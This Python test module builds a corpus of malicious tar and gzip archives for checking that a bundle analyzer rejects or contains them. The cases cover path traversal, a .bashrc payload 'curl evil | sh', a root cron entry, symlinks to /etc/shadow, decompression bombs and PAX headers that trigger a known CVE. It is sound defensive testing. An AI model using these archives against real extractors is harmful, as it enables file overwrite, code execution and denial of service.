"""The hostile-archive corpus, built by the tests themselves (no binary blobs checked in).

Every case is a function returning the bytes of one archive and the outcome the policy of
docs/security.md promises for it: ``reject`` (BundleError, one ``Error:`` line, exit 2)
with words the message must contain, or ``contain`` (the bundle is analysed, a bundle
problem names the entry) with words the problem must contain. Each case is small: the
limits it trips are either tiny ``Limits`` passed by the case, or default limits that a
few kilobytes of gzip or a lying header reach without real data.
"""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

from analyzer.limits import Limits

MTIME = 1772443860  # 2026-03-02T09:31:00Z
TOP = "pcd-bundle-hostile"
SERVERS = b'[{"ID": "6f0d4c1e-2b7a-4d3e-9a51-0c8e2f6b9d13", "Name": "web-1", "Status": "ACTIVE"}]'


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[], bytes]
    outcome: str  # "reject" | "contain"
    words: tuple[str, ...]  # in the error message (reject) or in a problem (contain)
    limits: Limits | None = None
    problem_file: str | None = None  # contain: the problem names this file
    cli: tuple[str, ...] = field(default=())  # extra CLI arguments that set the same limits


def info(name: str, size: int = 0, kind: bytes = tarfile.REGTYPE) -> tarfile.TarInfo:
    ti = tarfile.TarInfo(name)
    ti.size = size
    ti.type = kind
    ti.mtime = MTIME
    ti.mode = 0o644
    return ti


def tar_bytes(
    entries: list[tuple[tarfile.TarInfo, bytes | None]],
    *,
    fmt: int = tarfile.PAX_FORMAT,
    with_servers: bool = True,
) -> bytes:
    """A plain tar: the entries, after a harmless servers.json so there is something to read."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tar:
        if with_servers:
            tar.addfile(info(f"{TOP}/openstack/servers.json", len(SERVERS)), io.BytesIO(SERVERS))
        for ti, data in entries:
            tar.addfile(ti, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def tgz(
    entries: list[tuple[tarfile.TarInfo, bytes | None]],
    *,
    fmt: int = tarfile.PAX_FORMAT,
    with_servers: bool = True,
) -> bytes:
    return gzip.compress(tar_bytes(entries, fmt=fmt, with_servers=with_servers), mtime=0)


def file(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    return info(name, len(data)), data


def link(name: str, target: str, kind: bytes) -> tuple[tarfile.TarInfo, None]:
    ti = info(name, 0, kind)
    ti.linkname = target
    return ti, None


# --- names that leave the bundle ---------------------------------------------------------


def absolute() -> bytes:
    return tgz([file("/etc/cron.d/pcd-owned", b"* * * * * root id\n")])


def dotdot() -> bytes:
    return tgz([file("../../home/engineer/.bashrc", b"curl evil | sh\n")])


def dotdot_inside() -> bytes:
    return tgz([file(f"{TOP}/hosts/../../../etc/passwd", b"x\n")])


def backslash_dotdot() -> bytes:
    return tgz([file("..\\..\\Users\\engineer\\evil.bat", b"x\n")])


def windows_drive() -> bytes:
    return tgz([file("C:\\Windows\\evil.dll", b"x\n")])


def nul_in_name() -> bytes:
    ti = info(f"{TOP}/a.log", 2)
    ti.pax_headers = {"path": f"{TOP}/a.log\x00/../../x"}
    return tgz([(ti, b"x\n")])


def duplicate() -> bytes:
    return tgz([file(f"{TOP}/openstack/servers.json", b"[]")])


def duplicate_escapes() -> bytes:
    name = f"{TOP}/\x1b]0;pwned\x07\x1b[2J.log"
    return tgz([file(name, b"a\n"), file(name, b"b\n")])


# --- entries that are not regular files ---------------------------------------------------


def symlink() -> bytes:
    return tgz([link(f"{TOP}/passwd", "/etc/passwd", tarfile.SYMTYPE)])


def symlink_then_write_through() -> bytes:
    # The classic: a link to a folder outside, then a file "inside" the link.
    return tgz(
        [
            link(f"{TOP}/escape", "/tmp", tarfile.SYMTYPE),
            file(f"{TOP}/escape/pcd-owned.txt", b"owned\n"),
        ]
    )


def hardlink() -> bytes:
    return tgz([link(f"{TOP}/shadow", "/etc/shadow", tarfile.LNKTYPE)])


def chardev() -> bytes:
    ti = info(f"{TOP}/zero", 0, tarfile.CHRTYPE)
    ti.devmajor, ti.devminor = 1, 5
    return tgz([(ti, None)])


def blockdev() -> bytes:
    ti = info(f"{TOP}/sda", 0, tarfile.BLKTYPE)
    ti.devmajor, ti.devminor = 8, 0
    return tgz([(ti, None)])


def fifo() -> bytes:
    return tgz([(info(f"{TOP}/pipe", 0, tarfile.FIFOTYPE), None)])


# --- limits -------------------------------------------------------------------------------


def many_members() -> bytes:
    return tgz([file(f"{TOP}/f{i}.txt", b"") for i in range(40)])


def big_content() -> bytes:
    return tgz([file(f"{TOP}/big.log", b"x" * 300_000)])


def lying_size() -> bytes:
    """A header claiming 5 GiB with no data behind it: refused before anything is read."""
    ti = info(f"{TOP}/huge.log", 0)
    ti.pax_headers = {"size": str(5 * 1024**3)}
    raw = tar_bytes([(ti, None)])
    return gzip.compress(raw, mtime=0)


def gzip_bomb() -> bytes:
    """20 MB of zeros in about 20 KB: over 200:1 with the default limits."""
    return tgz([file(f"{TOP}/zeros.log", b"\0" * 20_000_000)])


def gz_member_bomb() -> bytes:
    inner = gzip.compress(b"\0" * 20_000_000, mtime=0)
    return tgz([file(f"{TOP}/hosts/hv-01/ostackhost.log.1.gz", inner)])


def nested_bomb() -> bytes:
    inner = tgz([file("zeros.log", b"\0" * 20_000_000)], with_servers=False)
    return tgz([file(f"{TOP}/hv-01.tgz", inner)])


def nested_twice() -> bytes:
    innermost = tgz([file("hosts/hv-09/ostackhost.log", b"x\n")], with_servers=False)
    middle = tgz([file("deeper.tgz", innermost)], with_servers=False)
    return tgz([file(f"{TOP}/hv-01.tgz", middle)])


# --- damaged containers ---------------------------------------------------------------------


def truncated_gzip() -> bytes:
    data = tgz([file(f"{TOP}/a.log", bytes(range(256)) * 400)])
    return data[: len(data) // 2]


def truncated_in_first_member() -> bytes:
    data = tgz([file(f"{TOP}/a.log", bytes(range(256)) * 400)], with_servers=False)
    return data[: len(data) // 2]


def truncated_tar_in_first_member() -> bytes:
    raw = tar_bytes([file(f"{TOP}/a.log", b"y" * 5000)], with_servers=False)
    return raw[:1500]  # inside the only member's data


def truncated_nested() -> bytes:
    inner = tgz([file("hosts/hv-01/ostackhost.log", bytes(range(256)) * 400)])
    return tgz([file(f"{TOP}/hv-01.tgz", inner[: len(inner) // 2])])


def corrupt_gzip_crc() -> bytes:
    data = bytearray(tgz([file(f"{TOP}/a.log", b"hello\n")]))
    data[-8] ^= 0xFF  # the CRC32 in the gzip trailer
    return bytes(data)


def corrupt_deflate() -> bytes:
    data = bytearray(tgz([file(f"{TOP}/a.log", bytes(range(256)) * 400)]))
    for i in range(40, 60):
        data[i] ^= 0x55
    return bytes(data)


def truncated_tar() -> bytes:
    raw = tar_bytes([file(f"{TOP}/a.log", b"y" * 5000)])
    return raw[: 512 * 4 + 1000]  # inside the second member's data


def corrupt_tar_header() -> bytes:
    raw = bytearray(tar_bytes([file(f"{TOP}/a.log", b"y" * 600)]))
    # The servers.json member takes a PAX-free header (512) and one data block (512);
    # damage the next header's checksum field.
    raw[1024 + 148 : 1024 + 156] = b"9999999\0"
    return gzip.compress(bytes(raw), mtime=0)


def not_an_archive() -> bytes:
    return b"This is a support ticket, not a bundle.\n"


def empty() -> bytes:
    return b""


def zip_archive() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("openstack/servers.json", SERVERS)
    return buf.getvalue()


def gzipped_log() -> bytes:
    return gzip.compress(b"2026-03-02 09:00:00.000 1 INFO nova.compute hello\n", mtime=0)


def raw_deflate() -> bytes:
    return zlib.compress(b"not a gzip stream" * 100)


# --- headers built to hurt the parser ---------------------------------------------------


def _pax_block(records: bytes, name: str = "././@PaxHeader") -> bytes:
    ti = tarfile.TarInfo(name)
    ti.type = tarfile.XHDTYPE
    ti.size = len(records)
    head = ti.tobuf(tarfile.USTAR_FORMAT)
    return head + records + b"\0" * (-len(records) % 512)


def with_pax(records: bytes) -> bytes:
    body = _pax_block(records)
    member = info(f"{TOP}/a.log", 2).tobuf(tarfile.USTAR_FORMAT) + b"x\n" + b"\0" * 510
    return gzip.compress(body + member + b"\0" * 1024, mtime=0)


def pax_huge() -> bytes:
    """A 2 MiB PAX header: tarfile would read it whole, then scan it with regexes."""
    value = b"a" * (2 * 1024 * 1024)
    body = b" comment=" + value + b"\n"
    for digits in range(7, 12):
        length = len(body) + digits
        if len(str(length)) == digits:
            return with_pax(str(length).encode() + body)
    raise AssertionError("unreachable")


def pax_digits() -> bytes:
    """CVE-2024-6232: a run of digits makes tarfile's header regexes quadratic."""
    return with_pax(b"1" * 100_000)


def pax_malformed() -> bytes:
    return with_pax(b"99 path=x\n")


def pax_record(key: str, value: str) -> bytes:
    body = f" {key}={value}\n".encode()
    digits = 1
    while len(str(len(body) + digits)) != digits:
        digits += 1
    return str(len(body) + digits).encode() + body


def pax_sparse_garbage() -> bytes:
    """A GNU sparse map that is not numbers: tarfile raises ValueError, not a TarError."""
    return with_pax(pax_record("GNU.sparse.map", "0,x,y") + pax_record("GNU.sparse.size", "9"))


def gnu_longname_huge() -> bytes:
    ti = info(f"{TOP}/" + "n" * (2 * 1024 * 1024), 2)
    return tgz([(ti, b"x\n")], fmt=tarfile.GNU_FORMAT)


# --- contained oddities ---------------------------------------------------------------------


def future_mtime() -> bytes:
    ti, data = file(f"{TOP}/kubernetes/pods.json", b'{"items": []}')
    ti.mtime = 32503680000  # 3000-01-01
    return tgz([(ti, data)])


def undecodable_name() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        tar.addfile(info(f"{TOP}/openstack/servers.json", len(SERVERS)), io.BytesIO(SERVERS))
        ti = info(f"{TOP}/caf\udce9.log", 2)
        tar.addfile(ti, io.BytesIO(b"x\n"))
    return gzip.compress(buf.getvalue(), mtime=0)


def corrupt_gz_member() -> bytes:
    return tgz([file(f"{TOP}/hosts/hv-01/ostackhost.log.1.gz", b"\x1f\x8b\x08\0garbage")])


def decompressed_duplicate() -> bytes:
    return tgz(
        [
            file(f"{TOP}/hosts/hv-01/ostackhost.log", b"a\n"),
            file(f"{TOP}/hosts/hv-01/ostackhost.log.gz", gzip.compress(b"b\n")),
        ]
    )


def corrupt_nested() -> bytes:
    return tgz([file(f"{TOP}/hv-01.tgz", b"\x1f\x8b\x08\0not really")])


SMALL = Limits(max_members=20, max_total_bytes=200_000)

CASES: dict[str, Case] = {
    c.name: c
    for c in [
        Case("absolute-path", absolute, "reject", ("absolute path",)),
        Case("dotdot", dotdot, "reject", ("escaping",)),
        Case("dotdot-inside", dotdot_inside, "reject", ("escaping",)),
        Case("backslash-dotdot", backslash_dotdot, "reject", ("escaping",)),
        Case("windows-drive", windows_drive, "reject", ("absolute path",)),
        Case("nul-in-name", nul_in_name, "reject", ("NUL",)),
        Case("duplicate-name", duplicate, "reject", ("duplicate member",)),
        Case("duplicate-escapes", duplicate_escapes, "reject", ("duplicate member", "\\x1b")),
        Case(
            "symlink", symlink, "contain", ("symbolic link", "not followed"), problem_file="passwd"
        ),
        Case(
            "symlink-write-through",
            symlink_then_write_through,
            "contain",
            ("symbolic link", "not followed"),
            problem_file="escape",
        ),
        Case("hardlink", hardlink, "contain", ("hard link", "not followed"), problem_file="shadow"),
        Case("chardev", chardev, "contain", ("device file",), problem_file="zero"),
        Case("blockdev", blockdev, "contain", ("device file",), problem_file="sda"),
        Case("fifo", fifo, "contain", ("FIFO",), problem_file="pipe"),
        Case(
            "too-many-members",
            many_members,
            "reject",
            ("more than 20 members",),
            limits=SMALL,
            cli=("--max-members", "20", "--max-bytes", "200000"),
        ),
        Case(
            "too-many-bytes",
            big_content,
            "reject",
            ("size limit",),
            limits=SMALL,
            cli=("--max-members", "20", "--max-bytes", "200000"),
        ),
        Case("lying-size", lying_size, "reject", ("size limit",)),
        Case("gzip-bomb", gzip_bomb, "reject", ("compression ratio",)),
        Case(
            "gz-member-bomb",
            gz_member_bomb,
            "contain",
            ("compression ratio",),
            problem_file="hosts/hv-01/ostackhost.log.1.gz",
        ),
        Case(
            "nested-bomb",
            nested_bomb,
            "contain",
            ("nested archive unreadable", "compression ratio"),
            problem_file="hv-01.tgz",
        ),
        Case(
            "nested-twice",
            nested_twice,
            "contain",
            ("nested too deeply",),
            problem_file="hv-01/deeper.tgz",
        ),
        Case(
            "truncated-gzip",
            truncated_gzip,
            "contain",
            ("partial: the archive is cut inside this file", "bytes present"),
            problem_file="a.log",
        ),
        Case(
            "truncated-in-first-member",
            truncated_in_first_member,
            "reject",
            ("truncated archive", "before any file could be read whole"),
        ),
        Case(
            "truncated-nested",
            truncated_nested,
            "contain",
            ("archive truncated after member 'pcd-bundle-hostile/openstack/servers.json'",),
            problem_file="hv-01.tgz",
        ),
        Case("corrupt-gzip-crc", corrupt_gzip_crc, "reject", ("corrupt gzip", "CRC")),
        Case("corrupt-deflate", corrupt_deflate, "reject", ("corrupt",)),
        Case(
            "truncated-tar",
            truncated_tar,
            "contain",
            ("partial: the archive is cut inside this file",),
            problem_file="a.log",
        ),
        Case(
            "truncated-tar-in-first-member",
            truncated_tar_in_first_member,
            "reject",
            ("truncated archive", "inside member"),
        ),
        Case("corrupt-tar-header", corrupt_tar_header, "reject", ("truncated or corrupt",)),
        Case("not-an-archive", not_an_archive, "reject", ("not a tar archive",)),
        Case("empty-file", empty, "reject", ("empty file",)),
        Case("zip-archive", zip_archive, "reject", ("not a tar archive",)),
        Case("gzipped-log", gzipped_log, "reject", ("not a tar archive",)),
        Case("raw-deflate", raw_deflate, "reject", ("not a tar archive",)),
        Case("pax-huge", pax_huge, "reject", ("unsafe tar header", "PAX header of")),
        Case("pax-digits", pax_digits, "reject", ("unsafe tar header", "digits")),
        Case("pax-malformed", pax_malformed, "reject", ("unsafe tar header", "malformed PAX")),
        Case("pax-sparse-garbage", pax_sparse_garbage, "reject", ("corrupt", "ValueError")),
        Case(
            "gnu-longname-huge", gnu_longname_huge, "reject", ("unsafe tar header", "GNU long name")
        ),
        Case(
            "future-mtime",
            future_mtime,
            "contain",
            ("member time", "in the future"),
            problem_file="future-mtime.tgz",
        ),
        Case("undecodable-name", undecodable_name, "contain", (), problem_file=None),
        Case(
            "corrupt-gz-member",
            corrupt_gz_member,
            "contain",
            ("gzip",),
            problem_file="hosts/hv-01/ostackhost.log.1.gz",
        ),
        Case(
            "decompressed-duplicate",
            decompressed_duplicate,
            "contain",
            ("same name once decompressed",),
            problem_file="hosts/hv-01/ostackhost.log",
        ),
        Case(
            "corrupt-nested",
            corrupt_nested,
            "contain",
            ("nested archive unreadable",),
            problem_file="hv-01.tgz",
        ),
    ]
}
